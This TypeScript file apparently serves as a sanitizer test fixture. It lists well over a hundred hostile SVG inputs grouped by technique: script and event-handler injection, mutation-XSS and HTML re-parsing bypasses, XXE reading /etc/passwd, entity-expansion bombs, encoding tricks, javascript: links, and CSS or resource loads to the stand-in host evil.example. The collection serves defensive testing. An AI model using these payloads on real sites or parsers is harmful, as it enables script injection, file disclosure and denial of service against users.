const svgNs = 'xmlns="http://www.w3.org/2000/svg"'
const xlinkNs = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const html = 'xmlns="http://www.w3.org/1999/xhtml"'
const ground = '<rect id="ground" width="90" height="60" fill="red"/>'
const box = '<rect width="90" height="60"/>'
const evil = 'https://evil.example'
const img = '<img src="x" onerror="hit()"/>'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const picture = (drawing: string) => `<image href="data:image/svg+xml;base64,${base64(drawing)}" width="9" height="9"/>`

/** Returns a drawing with the given content. */
export const svg = (inside: string) => `<svg ${svgNs} ${xlinkNs} width="90" height="60">${ground}${inside}</svg>`

const each = (names: readonly string[], make: (name: string) => string) =>
  Object.fromEntries(names.map((name) => [name, make(name)]))
const utf16 = (text: string, mark: string) => Buffer.from(mark + text, 'utf16le')
const latin1 = (text: string) => Buffer.from(text, 'latin1')

/**
 * Drawings that run `hit()`, send a request to https://evil.example, or hide either of these, in XML, HTML, or both.
 * They are grouped by the feature that they abuse.
 */
export const families = {
  scripts: {
    script: svg('<script>hit()</script>'),
    'script by address': svg(`<script href="${evil}/x.js"/>`),
    'script by XLink': svg(`<script xlink:href="${evil}/x.js"/>`),
    'script as data': svg('<script href="data:text/javascript,hit()"/>'),
    'script as CDATA': svg('<script><![CDATA[hit()]]></script>'),
    'script in defs': svg('<defs><g><script>hit()</script></g></defs>'),
    'script in a symbol': svg('<symbol id="s"><script>hit()</script></symbol><use href="#s"/>'),
    'script module': svg('<script type="module">hit()</script>'),
    handler: svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler>'),
    iframe: svg(`<iframe ${html} src="${evil}"/>`),
    'iframe srcdoc': svg(`<iframe ${html} srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"/>`),
    'embed and object': svg(`<embed ${html} src="${evil}/a.swf"/><object ${html} data="${evil}/a.html"/>`),
    'audio, video and track': svg(
      `<audio ${html} src="${evil}/a.mp3"/><video ${html} src="${evil}/a.mp4" poster="${evil}/p.png"/>`,
    ),
    'link and meta': svg(
      `<link ${html} rel="stylesheet" href="${evil}/a.css"/><meta ${html} http-equiv="refresh" content="0;url=${evil}"/>`,
    ),
  },
  handlers: {
    onload: `<svg ${svgNs} onload="hit()">${ground}</svg>`,
    'onclick with entities': svg('<rect width="90" height="60" onclick="&#104;it()"/>'),
    'mixed case': `<svg ${svgNs} onLoad="hit()" ONCLICK="hit()">${box}</svg>`,
    ...each(['onmouseover', 'onmousedown', 'onfocusin', 'onpointerenter', 'onactivate'], (name) =>
      svg(`<rect width="90" height="60" tabindex="0" ${name}="hit()"/>`),
    ),
    'onfocus by autofocus': svg(
      '<a href="#" tabindex="0" autofocus="autofocus" onfocus="hit()"><text y="20">a</text></a>',
    ),
    'onbegin of an animation': svg('<animate onbegin="hit()" attributeName="x" dur="1s"/>'),
    'onend and onrepeat': svg(
      '<animate onend="hit()" onrepeat="hit()" attributeName="x" dur="0.01s" repeatCount="3"/>',
    ),
    'onerror of a picture': svg('<image href="data:image/png;base64,AAAA" onerror="hit()" width="9" height="9"/>'),
    'onload of a style': svg('<style onload="hit()">a{}</style>'),
    'on with a line break': svg('<rect width="90" height="60"\nonclick\n=\n"hit()"/>'),
    'on an inert element': `<svg ${svgNs} xmlns:i="http://www.inkscape.org/namespaces/inkscape"><i:g onclick="hit()">${box}</i:g></svg>`,
  },
  foreignObject: {
    foreignObject: svg(`<foreignObject><body ${html}>${img}</body></foreignObject>`),
    'without a namespace': svg(`<foreignObject width="90" height="60">${img}</foreignObject>`),
    'in lower case': svg(`<foreignobject width="90" height="60">${img}</foreignobject>`),
    'svg within it': svg(`<foreignObject><svg ${svgNs} onload="hit()"/></foreignObject>`),
    requiredExtensions: svg(
      `<switch><foreignObject requiredExtensions="x">${img}</foreignObject><g>${img}</g></switch>`,
    ),
    'form and button': svg(
      `<foreignObject width="90" height="60"><form ${html} action="javascript:hit()"><button style="width:90px;height:60px">a</button></form></foreignObject>`,
    ),
    'annotation of MathML': svg(
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
    ),
  },
  'HTML re-parsing': {
    'style in a title': svg('<title><style><!--</style><img src=x onerror=hit()>--></style></title>'),
    'style in a desc': svg('<desc><style><!--</style><img src=x onerror=hit()>--></style></desc>'),
    'style with CDATA in a title': svg('<title><style><![CDATA[</style><img src=x onerror=hit()>]]></style></title>'),
    'title with HTML': svg('<title><![CDATA[</title><img src=x onerror=hit()>]]></title>'),
    'title in a title': svg('<title><title>&lt;/title><![CDATA[<img src=x onerror=hit()>]]></title></title>'),
    'comment in a title of a title': svg(
      '<title><title><!--</title></title><img src=x onerror=hit()>--></title></title>',
    ),
    'image in a desc': svg(`<desc><image src="x" onerror="hit()" srcset="${evil}/1.png"/></desc>`),
    'srcset in a desc': svg(`<desc><image srcset="${evil}/2.png 1x"/></desc>`),
    'srcset in a title': svg(`<title><image srcset="${evil}/3.png 1x"/></title>`),
    'picture by style in a desc': svg(`<desc><g style="background:red"/><image srcset="${evil}/4.png"/></desc>`),
    'a in a desc': svg('<desc><a href="#"><animate attributeName="x"/></a><style>@import</style></desc>'),
    ...each(
      ['xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'textarea', 'plaintext', 'select', 'template', 'listing'],
      (name) =>
        svg(`<desc><${name}><g title="&lt;/${name}>"><!--</${name}><img src=x onerror=hit()>--></g></${name}></desc>`),
    ),
    'comment that HTML ends': svg('<!--> <img src="x" onerror="hit()"/> -->'),
    'comment that HTML ends at a dash': svg('<!---> <img src="x" onerror="hit()"/> -->'),
    'comment that HTML ends with a mark': svg('<!-- --!> <img src="x" onerror="hit()"/> -->'),
    'CDATA in a namespace of HTML': svg('<desc><p><![CDATA[<img src=x onerror=hit()>]]></p></desc>'),
    'CDATA after a comment': svg('<![CDATA[<!--]]><img src="x" onerror="hit()"/><![CDATA[-->]]>'),
    'instruction with a tag': svg('<?x > <img src=x onerror=hit()> ?>'),
    'DOCTYPE with a tag': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "><img src=x onerror=hit()>">${svg('')}`,
    'DOCTYPE with a tag in its name': `<!DOCTYPE svg SYSTEM '"><img src=x onerror=hit()>'>${svg('')}`,
    'instruction before the drawing': `<?x ><img src=x onerror=hit()> ?>${svg('')}`,
  },
  breakout: {
    ...each(
      ['p', 'b', 'div', 'table', 'ul', 'h1', 'br', 'span', 'center', 'meta', 'body', 'head', 'ruby', 'pre'],
      (name) => svg(`<g><${name}/>${img}</g>`),
    ),
    'img alone': svg(img),
    'font with a colour': svg('<font color="red"><style><!--</style><img src=x onerror=hit()>--></style></font>'),
    'font with a face': svg(
      '<font face="a"><title><g id="&lt;/title>"/><!--</title><img src=x onerror=hit()>--></title></font>',
    ),
    'font with a size': svg('<font size="1"><script>hit()</script></font>'),
    'end of p': svg(`</p>${img}`),
    'end of br': svg(`</br>${img}`),
  },
  mXSS: {
    'MathML and style': svg(
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></math>',
    ),
    'form in a form': svg(
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></mglyph></form></mtext></math></form>',
    ),
    'p in a desc': svg('<desc><p><svg><style><a id="</style><img src=1 onerror=hit()>"></a></style></svg></p></desc>'),
    'noscript with a title': svg('<noscript><p title="</noscript><img src=x onerror=hit()>"></p></noscript>'),
    'template in a desc': svg(
      '<desc><template><s><template><s><img src=x onerror=hit()>@shafigullin</s></template></s></template></desc>',
    ),
    'select in a desc': svg(
      '<desc><select><option><style></option></select><img src=x onerror=hit()></style></option></select></desc>',
    ),
    'table that fosters': svg(
      '<desc><table><tr><td><svg><title><table><a><img src=x onerror=hit()></a></table></title></svg></td></tr></table></desc>',
    ),
    'style in a style': svg(`<style><style></style>@import "${evil}/nested.css";</style>`),
    'style broken by an element': svg(`<style>@imp<g/>ort "${evil}/broken.css";</style>`),
    'style in MathML': svg('<math><style><img src=x onerror=hit()></style></math>'),
    'attribute with the end of a style': svg('<style><g title="&lt;/style>&lt;img src=x onerror=hit()>"/></style>'),
    'title with spelled tags': svg('<title>&lt;img src=x onerror=hit()&gt;</title><script>hit()</script>'),
  },
  namespaces: {
    'script with a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>hit()</x:script></x:svg>`,
    'script of HTML': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit()</h:script>'),
    'img of HTML': svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="hit()"/>'),
    'default switched': svg(`<g ${html}><script>hit()</script></g>`),
    'inert without prefix': svg('<g xmlns="http://ns.adobe.com/x"><script>hit()</script></g>'),
    'root of HTML': `<svg ${html}><script>hit()</script></svg>`,
    'root without a namespace': '<svg width="90" height="60" onload="hit()"><script>hit()</script></svg>',
    'xlink bound to an inert namespace': `<svg ${svgNs} xmlns:xlink="http://www.inkscape.org/namespaces/inkscape"><a xlink:href="javascript:hit()">${box}</a></svg>`,
    'picture by an inert xlink': `<svg ${svgNs} xmlns:xlink="http://ns.adobe.com/x"><image xlink:href="${evil}/inert.png" width="9" height="9"/></svg>`,
    'XLink of another prefix': svg(`<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:hit()">${box}</a>`),
    'inert prefix of an element that HTML knows': `<p:svg xmlns:p="http://www.w3.org/2000/svg" xmlns="http://ns.adobe.com/x"><img src="x" onerror="hit()"/></p:svg>`,
    'xlink unbound': `<svg ${svgNs}><a xlink:href="javascript:hit()">${box}</a></svg>`,
    'xmlns of XML events': svg(
      '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#x"/><script id="x">hit()</script>',
    ),
  },
  entities: {
    entities: `<!DOCTYPE svg [<!ENTITY a "hit()">]>${svg('')}`,
    'billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
    'script by an entity': `<!DOCTYPE svg [<!ENTITY a "<script>hit()</script>">]>${svg('&a;')}`,
    'handler by an entity': `<!DOCTYPE svg [<!ENTITY a "hit()">]>${svg('<rect width="90" height="60" onclick="&a;"/>')}`,
    'namespace by an entity': `<!DOCTYPE svg [<!ENTITY h "http://www.w3.org/1999/xhtml">]>${svg('<g xmlns="&h;"><script>hit()</script></g>')}`,
    'link by an entity': `<!DOCTYPE svg [<!ENTITY j "javascript:hit()">]>${svg(`<a href="&j;">${box}</a>`)}`,
    'attribute by default': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "hit()">]>${svg('')}`,
    'file by an entity': `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${svg('<text>&f;</text>')}`,
    'address by an entity': `<!DOCTYPE svg [<!ENTITY f SYSTEM "${evil}/ent.txt">]>${svg('<text>&f;</text>')}`,
    'parameter entity': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${evil}/p.dtd">%p;]>${svg('')}`,
    'entity of HTML': svg('<a href="javascript&colon;hit()"><rect width="90" height="60"/></a>'),
    'entity without an end': svg('<a href="javascript&#58hit()"><rect width="90" height="60"/></a>'),
    'entity of a quadratic size': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(5000)}">]>${svg(`<text>${'&a;'.repeat(5000)}</text>`)}`,
  },
  encodings: {
    'another charset': `<?xml version="1.0" encoding="ISO-8859-1"?>${svg('')}`,
    'UTF-7 declared': `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-hit()+ADw-/script+AD4-')}`,
    'UTF-16 with a mark': utf16(svg('<script>hit()</script>'), '\ufeff'),
    'UTF-16 without a mark': utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg('<script>hit()</script>')}`, ''),
    'UTF-16 declared in ASCII': `<?xml version="1.0" encoding="UTF-16"?>${svg('<script>hit()</script>')}`,
    'ISO-2022-JP': latin1(
      `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<g id="\x1b$B"/><g id="\x1b(B onclick=hit`` "/>')}`,
    ),
    'Shift_JIS that eats a quote': latin1(
      `<?xml version="1.0" encoding="Shift_JIS"?>${svg('<rect width="90" height="60" id="\x83" onclick="hit()" class="a"/>')}`,
    ),
    'bytes that are no UTF-8': latin1(svg('<g id="\xff\xfe"/><script>hit()</script>')),
    'overlong bytes': Buffer.concat([
      Buffer.from(svg('').slice(0, -6)),
      Buffer.from([0xc0, 0xbc]),
      Buffer.from('script>hit``</script></svg>'),
    ]),
    'meta charset': svg('<meta charset="utf-7"/>+ADw-img src=x onerror=hit``+AD4-'),
    'XML 1.1 with its own line end': `<?xml version="1.1"?>${svg('<rect\u0085width="90"\u2028height="60" onclick="hit()"/>')}`,
    'two marks': `\ufeff\ufeff${svg('<script>hit()</script>')}`,
  },
  links: {
    'javascript link': svg('<a href="javascript:hit()"><rect width="90" height="60"/></a>'),
    'javascript link with a tab': svg('<a xlink:href="java&#9;script:hit()"><rect width="90" height="60"/></a>'),
    'javascript link with line breaks': svg('<a href="j&#10;a&#13;vascript:hit()"><rect width="90" height="60"/></a>'),
    'javascript link behind controls': svg('<a href="&#x20;&#x9;javascript:hit()"><rect width="90" height="60"/></a>'),
    'javascript link in upper case': svg('<a href="JaVaScRiPt:hit()"><rect width="90" height="60"/></a>'),
    'vbscript link': svg('<a href="vbscript:hit()"><rect width="90" height="60"/></a>'),
    'link as data': svg(
      '<a href="data:text/html,&lt;script&gt;opener.hit()&lt;/script&gt;"><rect width="90" height="60"/></a>',
    ),
    'link elsewhere': svg(`<a href="${evil}/page"><rect width="90" height="60"/></a>`),
    'link without a scheme': svg('<a href="//evil.example/page"><rect width="90" height="60"/></a>'),
    ping: svg(`<a href="#ground" ping="${evil}/ping"><rect width="90" height="60"/></a>`),
    'ping in upper case': svg(`<a href="#ground" PING="${evil}/ping2"><rect width="90" height="60"/></a>`),
    attributionsrc: svg(`<a href="#ground" attributionsrc="${evil}/attribution"><rect width="90" height="60"/></a>`),
    'xml:base': `<svg ${svgNs} xml:base="https://evil.example/">${ground}<image href="#a" width="9" height="9"/></svg>`,
  },
  animation: {
    'animated link': svg('<a><animate attributeName="href" to="javascript:hit()"/><rect width="90" height="60"/></a>'),
    'animated link of XLink': svg(
      '<a><animate attributeName="xlink:href" values="javascript:hit();#a" dur="9s"/><rect width="90" height="60"/></a>',
    ),
    'animated link in upper case': svg(
      '<a><set attributeName="HREF" to="javascript:hit()"/><rect width="90" height="60"/></a>',
    ),
    'animated link with a space': svg(
      '<a><set attributeName=" href " to="javascript:hit()"/><rect width="90" height="60"/></a>',
    ),
    'animated by reference': svg(
      '<a id="l" href="#x"><rect width="90" height="60"/></a><set href="#l" attributeName="href" to="javascript:hit()"/>',
    ),
    'animated from and by': svg(
      '<a><animate attributeName="href" from="javascript:hit()" by="1" dur="9s"/><rect width="90" height="60"/></a>',
    ),
    'set handler': svg('<set attributeName="onmouseover" to="hit()"/>'),
    'set ping': svg(
      `<a href="#ground"><set attributeName="ping" to="${evil}/setping"/><rect width="90" height="60"/></a>`,
    ),
    'set style': svg(
      `<rect width="90" height="60"><set attributeName="style" to="fill:url(${evil}/style.svg#a)"/></rect>`,
    ),
    'animated picture': svg(
      `<image width="9" height="9"><animate attributeName="href" values="${evil}/an.png" dur="9s"/></image>`,
    ),
    'animated fill': svg(
      `<rect width="90" height="60"><set attributeName="mask" to="u\\72l(${evil}/a.svg#b)"/></rect>`,
    ),
    'animated values': svg(
      `<rect width="90" height="60"><animate attributeName="mask" values="url(#a;url(${evil}/a.svg#b)" dur="9s"/></rect>`,
    ),
    'animated filter': svg(
      `<rect width="90" height="60"><set attributeName="filter" to="url(${evil}/f.svg#b)"/></rect>`,
    ),
    'animated link of another prefix': svg(
      `<image xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"><set attributeName="x:href" to="${evil}/a.png"/></image>`,
    ),
  },
  addresses: {
    'external picture': svg(`<image href="${evil}/pixel.png" width="9" height="9"/>`),
    'external picture of XLink': svg(`<image xlink:href="${evil}/pixel2.png" width="9" height="9"/>`),
    'external use': svg(`<use href="${evil}/a.svg#b"/>`),
    'data use': svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
    'data use with a script': svg(
      `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E#x"/>`,
    ),
    'picture as data of SVG': svg(
      `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hit()'/%3E" width="9" height="9"/>`,
    ),
    'picture as data of two types': svg(
      '<image href="data:image/png;x=y,text/html;base64,AAAA" width="9" height="9"/>',
    ),
    'picture as data of SVG with an import': svg(
      picture(`<svg ${svgNs}><style>@import "${evil}/nested.css";</style></svg>`),
    ),
    'picture as data of SVG with a handler': svg(picture(`<svg ${svgNs} onload="parent.hit()"/>`)),
    'picture as data of SVG with HTML': svg(
      picture(`<svg ${svgNs}><foreignObject><img ${html} src="${evil}/x.png"/></foreignObject></svg>`),
    ),
    'picture in a picture': svg(
      picture(`<svg ${svgNs}>${picture(`<svg ${svgNs}><script>top.hit()</script></svg>`)}</svg>`),
    ),
    'pictures in each other': svg(
      Array.from({ length: 6 }).reduce<string>(
        (inside) => picture(`<svg ${svgNs}>${inside}</svg>`),
        '<script>hit()</script>',
      ),
    ),
    'picture with the type of another': svg(
      `<image href="data:image/png;base64,${base64(`<svg ${svgNs} onload="hit()"/>`)}" width="9" height="9" onload="hit()"/>`,
    ),
    'data of SVG in a link': svg(
      `<a href="data:image/svg+xml;base64,${base64(`<svg ${svgNs} onload="hit()"/>`)}">${box}</a>`,
    ),
    'data of SVG in use': svg(
      `<use href="data:image/svg+xml;base64,${base64(`<svg ${svgNs} id="x" onload="hit()"/>`)}#x"/>`,
    ),
    'data of SVG in CSS': svg(
      `<rect style="mask:url(data:image/svg+xml;base64,${base64(`<svg ${svgNs} onload="hit()"/>`)}#x)"/>`,
    ),
    'external filter': svg(
      '<filter id="f"><feImage href="//evil.example/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    'external fill': svg(`<rect width="9" height="9" fill="url(${evil}/a.svg#b)"/>`),
    'external cursor': svg(`<rect width="90" height="60" cursor="image-set('${evil}/a.png' 1x), auto"/>`),
    'external mask': svg(`<rect width="90" height="60" mask="-webkit-image-set('${evil}/a.svg#b' 1x)"/>`),
    'external text path': svg(`<text><textPath href="${evil}/t.svg#p">a</textPath></text>`),
    'external gradient': svg(
      `<linearGradient id="g" href="${evil}/g.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`,
    ),
    'external motion': svg(`<g><animateMotion dur="1s"><mpath href="${evil}/m.svg#p"/></animateMotion></g>`),
    'stylesheet of XSL': `<?xml-stylesheet href="${evil}/a.xsl"?>${svg('')}`,
    'stylesheet of CSS': `<?xml-stylesheet type="text/css" href="${evil}/a.css"?>${svg('')}`,
    'stylesheet as data': `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?>${svg('')}`,
  },
  CSS: {
    ...Object.fromEntries(
      ['fill', 'stroke', 'mask', 'filter', 'clip-path', 'marker-end', 'cursor'].map((name) => [
        `escape in ${name}`,
        svg(
          `<path d="M0 0h90v60z" stroke-width="3" ${name}="u\\72l(${evil}/a.svg#b)${name === 'cursor' ? ', auto' : ''}"/>`,
        ),
      ]),
    ),
    'style import': svg(`<style>@import "${evil}/a.css";</style>`),
    'style import as CDATA': svg(`<style><![CDATA[@import url(${evil}/c.css);]]></style>`),
    'style import in pieces': svg(`<style>@im<!-- -->port "${evil}/p.css";</style>`),
    'style import with an escape': svg(`<style>@\\69mport "${evil}/e.css";</style>`),
    'style address': svg(`<style>rect{fill:url("${evil}/a.svg#b")}</style>`),
    'style escape': svg(`<style>rect{fill:u\\72l(${evil}/a)}</style>`),
    'style entity': svg(`<style>&#64;import "${evil}/a.css";</style>`),
    'style behind a comment': svg(`<style>/* url(# */ rect{mask:url(${evil}/a.svg#b)}</style>`),
    'style behind a text': svg(`<rect width="9" height="9" style="font-family:'url(#';mask:url(${evil}/a.svg#b)"/>`),
    'style attribute': svg(`<rect style="background:image-set('${evil}/a.png' 1x)"/>`),
    'style font': svg(
      `<style>@font-face{font-family:x;src:url(${evil}/a.woff)} text{font-family:x}</style><text>a</text>`,
    ),
    'style of a prefix': `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:style>@import "${evil}/x.css";</x:style></x:svg>`,
    'style that reads attributes': svg(`<style>rect[fill^="r"]{mask:url(${evil}/r)}</style>`),
    'style with a namespace': svg(`<style>@namespace "${evil}";@import "${evil}/n.css";</style>`),
    'style with a cursor': svg(`<style>*{cursor:url(${evil}/cur.png),auto}</style>`),
    'style with content': svg(`<style>svg::before{content:url(${evil}/content.png)}</style>`),
    'import behind a kept rule': svg(`<style>.a{fill:red}@import "${evil}/k.css";.b{fill:red}</style>`),
    'import in capitals and comments': svg(`<style>/* <b> */@IMPORT/**/url(${evil}/c2.css);.a{fill:red}</style>`),
    'import with an escape behind another': svg(`<style>.\\37 a{fill:red}@\\49mport "${evil}/e2.css";</style>`),
    'import in a media rule': svg(`<style>@media all{@import "${evil}/m.css";.a{fill:red}}</style>`),
    'import behind a charset': svg(`<style>@charset "a";@import "${evil}/cs.css";</style>`),
    'import of CDO': svg(`<style>&lt;!-- @import "${evil}/cdo.css"; --></style>`),
    'address with escapes of six digits': svg(`<style>rect{fill:\\000075\\000072\\00006c(${evil}/six)}</style>`),
    'address with an escaped letter': svg(`<style>rect{mask:\\url(${evil}/letter)}</style>`),
    'address behind an escaped comment': svg(`<style>/*\\*/rect{mask:url(${evil}/a.svg#c)}</style>`),
    'address that is local until an escape': svg(
      `<style>rect{mask:url("\\23 a" ${evil});cursor:url(\\68ttps://evil.example/e)}</style>`,
    ),
    'font by two addresses': svg(
      `<style>@font-face{font-family:x;src:url(data:font/woff2;base64,d09GMgABAAAAAA==),url(${evil}/two.woff)}</style><text font-family="x">a</text>`,
    ),
    'font with a type of HTML': svg(
      `<style>@font-face{font-family:x;src:url(data:text/html,%3Cscript%3Ehit()%3C/script%3E)}</style>`,
    ),
    'declaration between kept ones': svg(`<rect style="fill:red;background:url(${evil}/b.png);stroke:red"/>`),
    'image function with an escape': svg(`<style>rect{background:im\\61ge-set("${evil}/i.png" 1x)}</style>`),
    'custom property with an address': svg(`<style>rect{--a:url(${evil}/v);mask:var(--a)}</style>`),
    'namespace that ends early': svg(`<style>@namespace a url(}{);@import "${evil}/ns.css";</style>`),
    'comment that HTML takes for a tag': svg(`<style>/*&lt;/style>&lt;img src=x onerror=hit()>*/.a{fill:red}</style>`),
    'style that ends in HTML': svg('<style>a{b:"&lt;/style>&lt;img src=x onerror=hit()>"}</style>'),
  },
  malformed: {
    'attribute twice': svg('<rect width="90" height="60" onclick="hit()" onclick="a"/>'),
    'attribute twice in two cases': svg('<a href="#a" HREF="javascript:hit()"><rect width="90" height="60"/></a>'),
    unclosed: `<svg ${svgNs}><script>hit()`,
    'unclosed attribute': `<svg ${svgNs}><rect width="90" height="60" onclick="hit()`,
    'text after the end': `${svg('')}<img src="x" onerror="hit()"/>`,
    'drawing after the end': `${svg('')}<svg ${svgNs} onload="hit()"/>`,
    'tag before the start': `<img src="x" onerror="hit()"/>${svg('')}`,
    'tags across each other': svg('<g><a></g><script>hit()</script></a>'),
    'no quotes': svg('<rect width=90 height=60 onclick=hit() />'),
    'slash for a space': svg('<rect/width="90"/height="60"/onclick="hit()"/>'),
    'NUL in a name': svg('<scr\0ipt>hit()</scr\0ipt><rect width="90" height="60" on\0click="hit()"/>'),
    'NUL in a link': svg('<a href="java\0script:hit()"><rect width="90" height="60"/></a>'),
    'control in a link': svg('<a href="\x01javascript:hit()"><rect width="90" height="60"/></a>'),
    'reference to a control': svg('<a href="&#1;javascript:hit()"><rect width="90" height="60"/></a>'),
    'form feed for a space': svg('<rect\fwidth="90"\fheight="60"\fonclick="hit()"/>'),
    'name that starts oddly': svg('<rect width="90" height="60" "onclick="hit()" =onclick="hit()"/>'),
    'grave accents': svg('<rect width="90" height="60" class="`onclick=hit``" onmouseover=`hit()`/>'),
    'less than in a tag': svg('<g <script>hit``</script>'),
    'doctype within': svg('<!DOCTYPE html><img src="x" onerror="hit()"/>'),
  },
} satisfies Record<string, Record<string, string | Buffer>>
